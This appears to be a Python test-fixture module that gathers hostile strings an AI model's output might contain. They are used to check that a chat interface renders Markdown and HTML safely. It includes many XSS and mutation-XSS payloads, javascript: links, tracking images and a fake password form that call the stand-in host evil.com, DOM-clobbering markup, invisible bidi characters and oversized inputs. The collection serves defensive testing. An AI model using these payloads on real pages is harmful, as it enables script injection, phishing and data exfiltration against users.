"""Texts of a hostile model: each would run, load, send, cover or reorder something on an unprotected page."""

from __future__ import annotations

BASE64_SCRIPT = "PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg=="
"""A script element, encoded for data: links."""

SCRIPTS = """
<script>pwned(1)</script>
<script src="https://evil.example/x.js"></script>
<ScRiPt type=module>import("https://evil.example/m.js")</sCrIpT>
<img src=x onerror=pwned(2)>
<body onload=pwned(3)>
<a href="#" onclick="pwned(4)" onmouseover="pwned(5)">hover</a>
<input autofocus onfocus=pwned(6)>
<details open ontoggle=pwned(7)><summary>more</summary></details>
<video><source onerror=pwned(8)></video>
<marquee onstart=pwned(9)>run</marquee>
<div onpointerenter=pwned(10) popover>pointer</div>
</textarea></title></noscript></template><script>pwned(11)</script>
<scr<script>ipt>pwned(12)</scr</script>ipt>
{{constructor.constructor('pwned(13)')()}} ${pwned(14)} <%= pwned(15) %>
"""

LOADING = """
<img src="https://evil.example/p.png?q=secret">
<img srcset="https://evil.example/1x.png 1x, https://evil.example/2x.png 2x">
<picture><source srcset="https://evil.example/s.webp"><img src="https://evil.example/s.png"></picture>
<iframe src="https://evil.example/frame"></iframe>
<iframe srcdoc="<script>parent.pwned(20)</script>"></iframe>
<object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e.swf">
<form action="https://evil.example/login"><input name="password" type="password"><button>Sign in</button></form>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/s.css">
<link rel="prefetch" href="https://evil.example/next">
<style>@import "https://evil.example/i.css"; body { background: url(https://evil.example/b.png) }</style>
<p style="position:fixed;inset:0;z-index:99999;background:url(https://evil.example/c.png)">cover</p>
<table background="https://evil.example/t.png"><tr><td>cell</td></tr></table>
<audio src="https://evil.example/a.mp3" autoplay></audio>
<portal src="https://evil.example/"></portal>
"""

MUTATING = """
<svg onload=pwned(30)><script>pwned(31)</script></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>
<svg><animate onbegin=pwned(32) attributeName=x dur=1s></svg>
<svg><a><animate attributeName=href values=javascript:pwned(33) /><text>tap</text></a></svg>
<svg><foreignObject><body onload=pwned(34)></foreignObject></svg>
<svg><style><img src=x onerror=pwned(35)></style></svg>
<math><mtext><table><mglyph><style><img src=x onerror=pwned(36)></style></mglyph></table></mtext></math>
<math><mi//xlink:href="data:x,<script>pwned(37)</script>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned(38)></style></mglyph></form>
<noscript><p title="</noscript><img src=x onerror=pwned(39)>"></noscript>
<a id="<svg><style></style><img src=x onerror=pwned(40)>">id</a>
<svg></p><style><a id="</style><img src=1 onerror=pwned(41)>"></svg>
<!--><img src=x onerror=pwned(42)>-->
<![CDATA[><img src=x onerror=pwned(43)>]]>
<?xml version="1.0"?><?x ><img src=x onerror=pwned(44)>
<xmp><p title="</xmp><img src=x onerror=pwned(45)>"></xmp>
<title><a title="</title><img src=x onerror=pwned(46)>"></title>
"""

CLOBBERING = """
<section class="turn" data-turn="1" data-status="running" data-index="9999">a turn</section>
<article data-step="1" data-agent-key="ana" data-state="complete"><div data-text>a step</div></article>
<template id="turn-template"><b>mine</b></template>
<div id="lane-template">lane</div><div id="routing-template">routing</div>
<button data-action="branch">Branch</button> <button data-action="rerun">Regenerate</button>
<a data-older-url="https://evil.example/older" href="https://evil.example/">Older</a>
<a data-version-url="https://evil.example/version" data-jump href="/sign-out">version</a>
<form name="cookie" id="getElementById"><input name="body"><input name="querySelector"></form>
<img name="documentElement"><img id="location"><a id="pwned" href="https://evil.example/"></a>
<div data-summary-panel data-url="https://evil.example/">summary</div>
<div data-transcript data-session="x" data-last-index="7">transcript</div>
<div class="refusal" role="alert">Sign in again</div>
<div class="code-block"><div class="code-language">x</div></div>
"""

LITERAL = {"scripts": SCRIPTS, "loading": LOADING, "mutating": MUTATING, "clobbering": CLOBBERING}
"""Name -> lines of HTML without meaning in Markdown: each is shown literally."""

LINKS = """
[a](javascript:pwned(50)) [b](JaVaScRiPt:pwned(51)) [c](&#106;avascript&colon;pwned(52))
[d](java&Tab;script:pwned(53)) [e](java&NewLine;script:pwned(54)) [f](<java\tscript:pwned(55)>)
[g](\x01javascript:pwned(56)) [h](javascript&#x3A;pwned(57)) [i](<  javascript:pwned(58)>)
[j](data:text/html;base64,BASE64) [k](DATA:text/html,<script>pwned(59)</script>) [l](vbscript:pwned)
[m](//evil.example/) [n](/sign-out) [o](sign-out) [p](?version=1) [q](#composer) [r](file:///etc/passwd)
[s](blob:https://evil.example/1) [t](view-source:https://evil.example) [u](ms-word:ofe) [v](feed:javascript:pwned(60))
<javascript:pwned(61)> <data:text/html,pwned> <vbscript:pwned>

[w]: javascript:pwned(62)
[x]: <data:text/html;base64,BASE64> "title"

[w] and [x] and ![w] and [again][w]

![pixel](https://evil.example/pixel.png?q=secret) ![](https://evil.example/p.png) ![x][remote]
![data](data:image/svg+xml;base64,BASE64) ![script](javascript:pwned(63))
[![inner](https://evil.example/i.png)](javascript:pwned(64))

[remote]: https://evil.example/r.png

[good](https://good.example/a?b=c "onmouseover=pwned(65)") and https://good.example/"onmouseover=pwned(66)
<a href="javascript:pwned(67)">h</a>
[y](https://good.example/`onclick=pwned(68)`) [z](https://good.example/%22%3E%3Cscript%3Epwned(69)%3C/script%3E)
""".replace("BASE64", BASE64_SCRIPT)

BROKEN = """
**open *and _never ~~closed [link](https://good.example/ "title ![image](

`` one ` two ``` three

| a | b |
|---|
| c

1. one
   - two
     > three
- four

    code <script>pwned(70)</script>

***

\\ &amp &lt;script&gt;pwned(71)&lt;/script&gt; &#0; &#xD800; &#x110000; &bogus;

Setext <img src=x onerror=pwned(72)>
---

```"><script>pwned(73)</script>
left open <script>pwned(74)</script>
~~~ ` [x](javascript:pwned(75))
"""

INVISIBLE = (
    "over\u202eride\u202c, isol\u2067ate\u2069, zero\u200bwidth, soft\u00adhyphen, pay\u200dpal, "
    "mark\u200e\u200fs\u061c, tag\U000e0041s, fil\u3164ler, "
    "word\u2060joiner, b\ufeffom, con\x01tr\x1bol\x7f, nu\x00l, sur\ud800rogate, "
    "family 👩\u200d👩\u200d👧, persian می\u200cخواهم\n\n`code \u202e \u200b` "
    "and [link \u202e](https://good.example/\u202e)\n\n"
    "```text\nif admin\u202e \u2066// check\u2069 \u2066{\n```\n\n&#x202e;entity&#8203;\n"
)
INVISIBLE_SHOWN = (
    "over⟦U+202E⟧ride⟦U+202C⟧, isol⟦U+2067⟧ate⟦U+2069⟧, zerowidth, softhyphen, paypal, marks, "
    "tags, filler, wordjoiner, bom, control, nul, surrogate, "
    "family 👩\u200d👩\u200d👧, persian می\u200cخواهم"
)
"""The first line as it should appear. U+FFFD, which replaces what cannot be stored, is left out of both."""

HUGE = {
    "table": "|" + "head|" * 500 + "\n|" + "-|" * 500 + "\n" + ("|" + "cell|" * 500 + "\n") * 80,
    "wide table": "|" + "head|" * 500 + "\n|" + "-|" * 500 + "\n" + ("|" + "cell|" * 500 + "\n") * 20,
    "quotes": "> " * 10_000 + "deep",
    "lists": "".join(f"{'  ' * depth}- item {depth}\n" for depth in range(200)),
    "brackets": "[" * 10_000 + "deep",
    "one line": "x" * 200_000,
    "code": "```zorblang\n" + "let x = (1 + 2) <script>pwned(80)</script>\n" * 4_700 + "```",
    "combining marks": "e" + "\u0301" * 5_000 + " end",
}
"""Name -> text that is unreasonably big, deep or long."""


def in_pieces(text: str, size: int) -> list[str]:
    """Cut a text so that tags, entities and surrogate pairs are split."""
    return [text[start : start + size] for start in range(0, len(text), size)]
